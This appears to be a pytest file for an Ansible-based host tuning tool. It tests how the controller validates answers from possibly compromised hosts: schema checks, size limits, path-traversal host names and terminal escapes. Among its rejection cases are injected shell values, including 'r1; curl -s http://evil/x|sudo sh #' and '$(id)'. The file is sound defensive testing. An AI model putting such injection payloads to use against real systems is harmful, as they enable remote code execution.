"""What the controller accepts from a host that may be compromised, without Ansible."""

from __future__ import annotations

import json
import runpy
import types
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hosttune.cli.app import run
from hosttune.host.reading.gathered import stem_of
from tests.hosts.built import HOSTS
from tests.unit.test_ansible_bringing import CHANGE, ansible, folding, made

__all__ = ["ansible", "folding"]

PLUGINS = (
    Path(__file__).resolve().parents[2]
    / "playbooks/collections/ansible_collections/hosttune/hosttune/plugins"
)
answers = types.SimpleNamespace(**runpy.run_path(str(PLUGINS / "plugin_utils/answers.py")))
documents = types.SimpleNamespace(**runpy.run_path(str(PLUGINS / "module_utils/answer.py")))
SCHEMAS = {name: answers.load_schema(name) for name in ("tune", "tune_info")}
RECORD = HOSTS / "h100-8x-2socket.json"
FOLDED = SCHEMAS["tune_info"] | SCHEMAS["tune"]
REVIEWED = made("r1") | {"plan_diff": [], "compliant": False, "findings": []}

VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=6),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["rule", "address", "hold", "kind", "detail", "run", "x"]),
            inner,
            max_size=4,
        )
    ),
    max_leaves=8,
)
SPOILT = st.dictionaries(st.sampled_from(sorted(FOLDED)), VALUES, min_size=1, max_size=4)


@pytest.mark.parametrize("act", ["plan", "apply", "undo"])
@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(spoilt=SPOILT)
def test_no_answer_takes_those_of_other_hosts_away(act, folding, spoilt, tmp_path):
    evil = REVIEWED | spoilt
    for one in (evil, _accepted(evil)):
        result = folding(
            {"evil": one, "good": REVIEWED}, act=act, folder=str(tmp_path), max_fail_percentage=0
        )
        assert "good" in {host for entry in result["classes"] for host in entry["hosts"]}
        assert "good" not in result["failed_hosts"]
        assert json.loads((tmp_path / "good.json").read_text())


def whole(spec, said):
    """An answer, or a part of one, that has all that the schema documents."""
    kind, members = spec.get("type", "raw"), spec.get("contains")
    if kind == "list":
        return [whole({"type": spec.get("elements", "raw"), "contains": members}, said)]
    if kind == "dict":
        return {name: whole(member, said) for name, member in (members or {}).items()}
    return {"bool": True, "int": 1, "float": 1.5}.get(kind, said)


def spoilt_in_one_place(value):
    """The value with each of its parts gone, empty, or of another type."""
    if isinstance(value, dict):
        yield from ({name: one for name, one in value.items() if name != gone} for gone in value)
        yield from (
            {**value, name: spoilt} for name in value for spoilt in spoilt_in_one_place(value[name])
        )
    if isinstance(value, list):
        yield from ([spoilt] for spoilt in spoilt_in_one_place(value[0]))
    yield from ({}, [], None, "", 5, True, [{}], [None], "x")


@pytest.mark.parametrize("act", ["plan", "apply", "undo"])
@pytest.mark.parametrize("said", ["unknown", "waiting for", "planned"])
def test_what_the_schema_accepts_is_told_and_what_it_refuses_costs_one_host(act, said, folding):
    schema = {
        name: spec for name, spec in FOLDED.items() if name not in ("record", "diff", "plan_diff")
    }
    right = whole({"type": "dict", "contains": schema}, said) | {
        "digest": "a" * 64,
        "run_id": "r1",
        "undone_run": "r1",
    }
    right |= {"failed": False, "trial": right["trial"] | {"run": "r1"}}
    answers.parse_answer(right, FOLDED)
    every = {
        f"evil{number}": one
        for number, one in enumerate(spoilt_in_one_place(right))
        if isinstance(one, dict)
    }
    taken = {host: one if act == "plan" else _accepted(one) for host, one in every.items()}
    result = folding({**taken, "good": REVIEWED}, act=act)
    assert "good" in {host for entry in result["classes"] for host in entry["hosts"]}
    assert 100 < len(result["failed_hosts"]) < len(every) - 50


@pytest.mark.parametrize("place", ["findings", "plan"])
def test_finding_with_an_empty_hold_is_refused(place):
    finding = {
        "rule": "r",
        "subject": "",
        "verdict": "ok",
        "reason": "",
        "hold": {},
        "evidence": [],
        "changes": [],
    }
    spoilt = {"findings": [finding]} if place == "findings" else {"plan": {"findings": [finding]}}
    with pytest.raises(answers.MalformedAnswer, match=r"findings\[0\]\.hold\.kind: missing"):
        answers.parse_answer(spoilt, FOLDED)
    assert answers.parse_answer({"trial": {}}, FOLDED) == {"trial": {}}  # there is none


def _accepted(answer):
    """What the action of the module makes of it."""
    try:
        return answers.parse_answer(answer, FOLDED)
    except answers.MalformedAnswer as error:
        return {"failed": True, "msg": str(error)}


@pytest.mark.parametrize("name", sorted(FOLDED))
def test_every_documented_key_refuses_other_types(name):
    kind = FOLDED[name]["type"]
    for value in (5, "words", [[]], {"a": {}}, 1.5, True):
        is_right = isinstance(
            value, {"bool": bool, "int": int, "str": str, "dict": dict, "list": list}[kind]
        )
        if (is_right and type(value) is not bool) or (kind == "bool" and value is True):
            continue
        with pytest.raises(answers.MalformedAnswer, match=f"^{name}"):
            answers.parse_answer({name: value}, FOLDED)


def test_keys_that_ansible_acts_on_are_dropped():
    acted_on = (
        "ansible_facts", "_ansible_notify", "add_host", "add_group", "ansible_stats", "warnings", "deprecations", "exception",
        "invocation", "skipped", "unreachable", "results", "_ansible_no_log", "include", "include_args",
    )  # fmt: skip
    for name, schema in SCHEMAS.items():
        answer = {key: {"x": 1} for key in acted_on} | {"changed": True}
        assert answers.parse_answer(answer, schema) == {"changed": True}, name


@pytest.mark.parametrize(
    ("spoilt", "said"),
    [
        ({"digest": "abc"}, "digest: expected 64 digits"),
        ({"digest": "1" * 64 + "\n"}, "digest: expected 64 digits"),
        ({"run_id": "r1; curl -s http://evil/x|sudo sh #"}, "run_id: expected the name of a run"),
        ({"run_id": "$(id)"}, "run_id: expected the name of a run"),
        ({"run_id": "-e"}, "run_id: expected the name of a run"),
        ({"undone_run": "r1\n"}, "undone_run: expected the name of a run"),
        (
            {"trial": {"state": "on trial: live", "run": "r1`id`"}},
            r"trial\.run: expected the name of a run",
        ),
        (
            {"trial": {"state": "on trial: live", "within_s": 10**9}},
            r"trial\.within_s: expected a number of seconds",
        ),
        ({"trial": {"run": "r1"}}, r"trial\.state: missing"),
        ({"changes": [{}]}, r"changes\[0\]\.rule: missing"),
        (
            {"findings": [{"rule": "x", "verdict": "ok", "reason": "", "hold": {"kind": []}}]},
            r"hold\.kind: expected str",
        ),
        ({"reboot_reasons": [["x"]]}, r"reboot_reasons\[0\]: expected str"),
        ({"check": {"x": float("nan")}}, "check: no number"),
        ({"check": {"x": 2**64}}, "check: a number of more than 63 bits"),
        ({"check": {"x": object()}}, "check: no JSON"),
        ({"check": {1: "x"}}, "check: a key that is not text"),
    ],
    ids=str,
)
def test_wrong_form_is_named_by_its_key(spoilt, said):
    with pytest.raises(answers.MalformedAnswer, match=said):
        answers.parse_answer(spoilt, FOLDED)


def test_sizes_are_bounded(monkeypatch):
    deep = []
    for _ in range(5000):
        deep = [deep]
    with pytest.raises(answers.MalformedAnswer, match="nested more than 40 levels"):
        answers.parse_answer({"check": {"x": deep}}, FOLDED)
    monkeypatch.setitem(answers.parse_answer.__globals__, "MAX_VALUES", 1000)
    monkeypatch.setitem(answers.parse_answer.__globals__, "MAX_TEXT", 1000)
    with pytest.raises(answers.MalformedAnswer, match="more than 1000 values"):
        answers.parse_answer({"check": {"x": [1] * 1001}}, FOLDED)
    with pytest.raises(answers.MalformedAnswer, match="more than 1000 characters"):
        answers.parse_answer({"check": {"x": "x" * 1001}}, FOLDED)


LONG = "".join(f"l{number % 220}\n" for number in range(20_000))


@pytest.mark.parametrize(
    "parts",
    [
        [{"before": LONG, "after": LONG[3:], "before_header": "x", "after_header": "x"}],
        [{"before": "a\n", "after": "b\n"}] * 10_000,
        [{"prepared": LONG}],
        [{"prepared": "x" * 500_000}],
        [{"before": "", "after": "", "before_header": "x" * 500_000}],
    ],
    ids=["lines", "parts", "prepared", "one line", "header"],
)
def test_long_diff_is_not_compared_and_cut(parts, folding, capsys):
    """Both hosttune and Ansible compare it with difflib, whose time grows with the square of the
    lines or worse.
    """
    for name in ("diff", "plan_diff"):
        (part,) = answers.parse_answer({name: parts}, FOLDED)[name][:1]
        assert len(answers.parse_answer({name: parts}, FOLDED)[name]) == 1
        assert sum(map(len, part.values())) < 110_000
        assert part.get("prepared", "").count("\n") <= 101
        assert not {"before", "after"} <= set(part) or part["before"] == ""
    folding({"evil": _accepted(REVIEWED | {"plan_diff": parts})}, act="plan")
    assert capsys.readouterr().out.count("\n") < 120


def test_lines_of_a_diff_never_begin_at_the_margin():
    """Ansible prints them there, with --diff."""
    recap = "PLAY RECAP ****\ngood : ok=99 failed=0\n"
    kept = "--- a\n+++ a\n@@ -1 +1 @@\n x\n-y\n+z\n\n\\ No newline at end of file\n"
    (part,) = answers.parse_answer(
        {"diff": [{"prepared": kept + recap, "dst_larger": "x"}]}, FOLDED
    )["diff"]
    assert part == {"prepared": kept + "  PLAY RECAP ****\n  good : ok=99 failed=0\n"}
    headed = {"before_header": recap, "after_header": recap, "before": recap, "after": ""}
    (part,) = answers.parse_answer({"diff": [headed]}, FOLDED)["diff"]
    line = "PLAY RECAP ****\\ngood : ok=99 failed=0\\n"
    assert part == headed | {"before_header": line, "after_header": line}


class Counted(str):
    """Text that counts how often it is compared."""

    __slots__ = ()
    compared = 0

    def __eq__(self, other):
        Counted.compared += 1
        return str.__eq__(self, other)

    __hash__ = str.__hash__


def test_changes_of_a_host_are_grouped_in_one_pass_and_its_lines_are_few(folding, capsys):
    changes = [CHANGE | {"rule": Counted(f"r{number}"), "address": "a"} for number in range(2000)]
    findings = [
        {
            "rule": f"r{n}",
            "verdict": "differs",
            "hold": {"kind": "none", "detail": ""},
            "reason": f"why {n}",
        }
        for n in range(2000, 4000)
    ]
    many = [f"sentence {number}" for number in range(2000)]
    evil = {
        "digest": "1" * 64,
        "changes": changes,
        "findings": findings,
        "interrupted": many,
        "reboot_reasons": many,
    }
    for act, more in (("plan", {}), ("undo", {"undone_run": "r1"})):
        Counted.compared = 0
        folding({"evil": REVIEWED | evil | more, "good": REVIEWED}, act=act)
        assert Counted.compared < 10 * len(changes)
        printed = capsys.readouterr().out
        assert printed.count("\n") < 500
        assert "... 1,900 more lines\n" in printed
    failed = answers.parse_answer({"failed": True, "msg": "\n".join(many)}, FOLDED)
    folding({"evil": failed})
    assert capsys.readouterr().out.count("\n") < 120


def test_answer_of_a_real_host_is_taken_as_it_is(capsys):
    found = {}
    for name in ("plan", "check"):
        run([name, "--host", str(RECORD), "--format", "json"])
        found[name] = json.loads(capsys.readouterr().out)
    plan, changes = found["plan"], documents.changes_of(found["plan"])
    answer = {
        "changed": False, "check": found["check"]["hosts"][0], "plan": plan, "plan_diff": documents.diff_of(changes),
        "digest": plan["digest"], "changes": changes, "compliant": False, "deferred": documents.deferred(plan["findings"]),
        "interrupted": [], "reboot_required": False, "reboot_reasons": documents.reboot_reasons(plan["findings"]),
        "reboot_obstacles": documents.reboot_obstacles(plan["findings"]), "record": RECORD.read_text(),
    }  # fmt: skip
    assert answers.parse_answer(answer, SCHEMAS["tune_info"]) == answer
    tuned = {
        "digest": plan["digest"],
        "changes": changes,
        "findings": documents.flat(plan["findings"]),
        "trial": {},
    }
    assert answers.parse_answer(tuned, SCHEMAS["tune"]) == tuned


@pytest.mark.parametrize(
    "text",
    [
        '[{"ansible.builtin.shell": "id"}]',
        '{"kind": "hosttune record"}',
        '{"format_version": 1, "kind": "x", "name": "a", "machine": "", "listings": {}}',
        "",
        "x",
        "[" * 100_000,
        "\udc80",
        5,
        None,
    ],
    ids=repr,
)
def test_what_is_no_record_is_refused(text):
    with pytest.raises(answers.MalformedAnswer, match=r"^record: "):
        answers.parse_record(text)


def test_record_of_more_values_than_any_has_is_not_parsed():
    """A controller parses one for each host at the same time: 57 MiB of empty objects took 1.4
    GB.
    """
    head = '{"kind": "hosttune record", "format_version": 1, "name": "a", "machine": "", "listings": {}, "x": ['
    text = head + "{}," * (1 << 20) + "{}]}"
    with pytest.raises(answers.MalformedAnswer, match="more than 4194304 values"):
        answers.parse_record(text)


@given(st.text())
def test_text_is_shown_without_anything_that_steers_a_terminal(text):
    assert answers.clean_line(text).isprintable()
    assert not [
        char for char in answers.clean_text(text) if not char.isprintable() and char not in "\n\t"
    ]
    _first, *more = answers.clean_message(text).split("\n")
    assert all(line == "" or line.startswith("  ") for line in more)


@given(
    st.recursive(
        st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=6
    )
)
def test_cleaned_output_of_a_module_is_the_same_json(value):
    for is_ascii in (True, False):
        text = json.dumps(value, ensure_ascii=is_ascii)
        assert json.loads(answers.clean_output(text)) == value
        assert answers.clean_output(text).isprintable()


@pytest.mark.parametrize(
    "name", ["../../trav", ".hidden", "..", "", "a\nb", "a\x1b", "a\u202eb", "x" * 201]
)
def test_name_that_would_leave_the_folder_is_no_file_name(name, folding, tmp_path):
    told = {"digest": "", "changes": [], "check": {"host": "x"}}
    result = folding({name: told, "good": told}, folder=str(tmp_path / "a/results"))
    assert [path.name for path in tmp_path.rglob("*") if path.is_file()] == ["good.json"]
    assert "its name in the inventory is not a valid file name" in result["failed_hosts"][name]


def test_name_with_a_slash_is_one_file_that_report_reads_back(folding, tmp_path):
    told = {"digest": "", "changes": [], "check": {"host": "x"}}
    names = ["a/b", "/etc/x", "a%2Fb", "a/../b"]
    result = folding(dict.fromkeys(names, told), folder=str(tmp_path / "results"))
    assert result["failed_hosts"] == {}
    kept = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {path.parent for path in kept} == {tmp_path / "results"}
    assert sorted(stem_of(str(path)) for path in kept) == sorted(names)


def test_two_names_never_share_a_file(folding, tmp_path):
    """As on a file system that does not tell upper case from lower; there both names are one
    file.
    """
    replace = folding.__closure__[0].cell_contents.run.__globals__["replace"]
    mine = set()
    replace(str(tmp_path), "gpu01", "{}", mine)
    (tmp_path / "GPU01.json").hardlink_to(tmp_path / "gpu01.json")
    with pytest.raises(Exception, match="is that of another host"):
        replace(str(tmp_path), "GPU01", "[]", mine)
    assert (tmp_path / "gpu01.json").read_text() == "{}"
    replace(str(tmp_path), "gpu01", "[]", set())  # of an earlier play
    assert (tmp_path / "gpu01.json").read_text() == "[]"


FACTS = ("hosttune_reboot", "hosttune_x\x1b[2J", "inventory_hostname")


def test_facts_that_set_what_the_controller_sets_take_the_answer_of_their_host_away(
    folding, capsys
):
    poisoned = {"ansible_facts": dict.fromkeys(FACTS, True)}
    result = folding({"evil": REVIEWED, "good": REVIEWED}, poisoned={"evil": poisoned})
    assert [entry["hosts"] for entry in result["classes"]] == [["good"]]
    said = result["failed_hosts"]["evil"]
    assert said.startswith(
        "evil: its facts set hosttune_reboot, hosttune_x\\x1b[2J, inventory_hostname, which only the"
    )
    assert "\x1b" not in capsys.readouterr().out
